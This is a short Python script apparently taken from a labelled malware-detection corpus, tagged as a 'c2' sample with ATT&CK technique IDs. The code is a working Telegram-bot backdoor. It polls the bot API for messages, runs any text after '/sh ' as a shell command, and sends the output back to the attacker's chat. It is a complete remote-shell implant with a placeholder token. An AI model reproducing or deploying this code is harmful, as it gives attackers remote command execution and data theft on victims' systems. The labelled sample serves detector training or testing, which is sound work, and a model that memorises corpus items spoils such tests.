# label: malicious family=c2 techniques=T1102.002,T1059.004 lines=3,6,10-11
import requests, subprocess, time
API = "https://api.telegram.org/bot222222222:AAFAKEpytriageCORPUSfakefakefakefake"
off = 0
while True:
    for u in requests.get(API + "/getUpdates", params={"offset": off, "timeout": 50}).json().get("result", []):
        off = u["update_id"] + 1
        text = u.get("message", {}).get("text", "")
        if text.startswith("/sh "):
            out = subprocess.getoutput(text[4:])
            requests.post(API + "/sendMessage", data={"chat_id": u["message"]["chat"]["id"], "text": out[:4000]})
    time.sleep(1)
